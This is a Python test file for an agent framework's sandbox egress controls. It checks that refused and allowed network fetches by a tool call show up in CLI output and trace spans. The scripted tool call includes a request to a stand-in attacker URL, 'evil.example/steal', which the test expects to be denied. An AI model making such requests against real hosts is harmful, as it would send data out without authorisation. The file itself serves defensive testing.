"""Every egress decision of a real run is where a person looks: `tether watch` shows what a
tool call was refused and how much it moved, and its `execute_tool` span carries the same.

A scripted run whose one tool call fetches from an allowed server on the host's loopback
(127.0.0.2: the sandbox's NO_PROXY keeps its own 127.0.0.1) and from `evil.example`, refused.
The sandbox image has no curl: the tool is urllib, which reads the same proxy variables."""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

from temporalio.client import Client
from tether import client as tether

from tests.egress.servers import http_server
from tests.helpers import tether_cli
from tests.scripts import scripted_run, turn
from tests.workflows.worker_process import WorkerProcess

FETCH = """
import urllib.error, urllib.request
try:
    print(urllib.request.urlopen("{url}", timeout=20).read().decode())
except urllib.error.HTTPError as error:
    print(error.code)
"""


def fetching_run(port: int) -> dict[str, Any]:
    hello = f"http://127.0.0.2:{port}/hello"
    return scripted_run(
        "fetch", turn(python=FETCH.format(url=hello) + FETCH.format(url="http://evil.example/steal")),
        turn("done"), sandbox={"network": {"allow": [f"127.0.0.2:{port}"]}})


def answer(port: int) -> bytes:
    return f"hello from {port}, host 127.0.0.2:{port}".encode()


async def test_tether_watch_shows_on_the_tool_calls_line_what_it_was_refused_and_moved(
    temporal_client: Client, temporal_address: str, worker: str
) -> None:
    with http_server(host="127.0.0.2") as port:
        handle = await tether.start_run(temporal_client, fetching_run(port), task_queue=worker)
        result = await handle.result()
    assert result.status == "completed", result
    code, out, err = await tether_cli(temporal_address, worker, "watch", handle.id)
    assert code == 0, err
    [finished] = [line for line in out.splitlines() if line.startswith("← 1-0 python")]
    assert "egress denied evil.example:80" in finished
    assert f"egress {len(answer(port))} B" in finished


async def test_a_tool_calls_span_carries_its_egress_decisions_and_bytes(
    temporal_client: Client, docker_engine: Any, tmp_path: Path
) -> None:
    traces = tmp_path / "traces.jsonl"
    queue = f"egress-{uuid.uuid4().hex[:6]}"
    worker = WorkerProcess(temporal_client, task_queue=queue, worker_id=queue,
                           log_file=tmp_path / "worker.log", env={"TETHER_TRACE_FILE": str(traces)})
    await worker.start()
    try:
        with http_server(host="127.0.0.2") as port:
            result = await tether.run(temporal_client, fetching_run(port), task_queue=queue,
                                      workflow_id=f"egress-span-{queue}")
    finally:
        await worker.stop()  # flushes its spans
    assert result.status == "completed", result
    spans = [json.loads(line) for line in traces.read_text().splitlines()]
    # A call that outlives the local activity's hand-off has a second span there, which
    # says so; the span of the activity that ran it to its end has the decisions.
    [tool] = [s for s in spans if s["name"] == "execute_tool python"
              and s["attributes"].get("gen_ai.conversation.id") == f"egress-span-{queue}"
              and not s["attributes"].get("tether.tool.handed_off")]
    attributes = tool["attributes"]
    assert attributes.get("tether.egress.denied") == ["evil.example:80"], attributes
    assert attributes["tether.egress.allowed"] == [f"127.0.0.2:{port}"]
    assert attributes["tether.egress.bytes_received"] == len(answer(port))
    assert attributes["tether.egress.bytes_sent"] == 0  # a GET: no body
